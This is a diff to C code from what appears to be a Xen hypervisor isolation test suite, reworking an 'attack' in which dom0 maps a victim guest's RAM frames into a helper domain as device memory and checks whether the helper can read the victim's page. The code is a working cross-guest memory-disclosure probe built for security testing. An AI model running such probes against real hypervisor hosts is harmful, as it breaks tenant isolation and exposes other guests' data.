@@ -3,12 +3,14 @@
  * Advisory: a guest's RAM as a device's registers, and the other way round
  *
  * Claim:  dom0 reads a guest's page by calling its machine frame a device's,
- *         in its own map (PVH) or in that of a helper of its own (PV); and
- * puts a device, or another frame, in the place of a guest's page. Method:
- * XEN_DOMCTL_iomem_permission and XEN_DOMCTL_memory_mapping; the frame from
- * Xen's table of machine frames, which dom0 may read. Stock:  no one asks
- * whether a frame of RAM is a device's, nor whose it is.
+ *         in its own map (PVH) or in that of a helper of its own; and puts a
+ *         device, or another frame, in the place of a guest's page.
+ * Method: XEN_DOMCTL_iomem_permission and XEN_DOMCTL_memory_mapping; the frame
+ *         from Xen's table of machine frames, which dom0 may read.  The helper
+ *         gets it before it runs.
+ * Stock:  no one asks whether a frame of RAM is a device's, nor whose it is.
  */
+#include <errno.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <sys/mman.h>
@@ -57,37 +59,57 @@ ATTACK(mmio_ram_own, .needs = SHARED, .frames = true, .pvh_only = true);
 /* The helper looks at a frame beyond its RAM, again and again. */
 #define HELPER_GFN (VICTIM_SHARED / PAGE + 32)
 
+/* Whether the map has the frame: 0, or -errno. */
+static long map_in_helper(struct victim *helper, unsigned long mfn)
+{
+    if ( xc_domain_iomem_permission(xch, helper->id, mfn, 1, 1) )
+        return -EACCES;
+    return xc_domain_memory_mapping(xch, helper->id, HELPER_GFN, mfn, 1, 1)
+               ? -errno
+               : 0;
+}
+
+/*
+ * The helper has not run yet when it gets the frame: a Xen that hides all
+ * guests gives one that runs no device at all, and nobody would be asked
+ * whose the frame is.  *RC: what the call for the frame gives.
+ */
+static bool helper_sees(unsigned long mfn, long *rc)
+{
+    struct victim helper;
+    char extra[32];
+    bool seen;
+
+    snprintf(extra, sizeof(extra), "peek=%lu", HELPER_GFN * PAGE);
+    *rc = -ENOENT;
+    if ( victim_create(&helper, extra) )
+        return false;
+    *rc = map_in_helper(&helper, mfn);
+    seen = !*rc && victim_runs(&helper) && victim_says(&helper, "peek ", 5) &&
+           victim_says(&helper, "peek 64", 1);
+    xc_domain_memory_mapping(xch, helper.id, HELPER_GFN, mfn, 1, 0);
+    victim_destroy(&helper);
+    return seen;
+}
+
 static enum verdict mmio_ram_helper(struct victim *v)
 {
     unsigned long mfn[CANDIDATES];
     unsigned int i, n = frames_of_lines(mfn, CANDIDATES), mapped = 0;
-    struct victim helper;
-    char extra[32];
+    long rc;
 
-    snprintf(extra, sizeof(extra), "peek=%lu", HELPER_GFN * PAGE);
-    if ( victim_start(&helper, extra) )
-        return ERROR;
     for ( i = 0; i < n; i++ )
     {
-        bool seen;
-
-        if ( xc_domain_iomem_permission(xch, helper.id, mfn[i], 1, 1) ||
-             xc_domain_memory_mapping(xch, helper.id, HELPER_GFN, mfn[i], 1,
-                                      1) )
-            continue;
-        mapped++;
-        helper.log = log_end();
-        seen = victim_says(&helper, "peek 64", 5);
-        xc_domain_memory_mapping(xch, helper.id, HELPER_GFN, mfn[i], 1, 0);
-        if ( seen )
-            break;
+        if ( helper_sees(mfn[i], &rc) )
+            return verdict(SUCCESS, "a helper sees the page of d%u", v->id);
+        mapped += !rc;
+        if ( rc && rc != -EPERM )
+            return verdict(ERROR, "frame %#lx: not even refused: %ld", mfn[i],
+                           rc);
     }
-    victim_destroy(&helper);
-    return verdict(i < n ? SUCCESS : FAILURE,
-                   "%u of %u frames of d%u mapped by a helper", mapped, n,
-                   v->id);
+    return verdict(FAILURE, "%u of %u frames mapped by a helper", mapped, n);
 }
-ATTACK(mmio_ram_helper, .needs = SHARED, .frames = true);
+ATTACK(mmio_ram_helper, .needs = SHARED, .frames = true, .seconds = 120);
 
 static enum verdict mmio_over_ram(struct victim *v)
 {
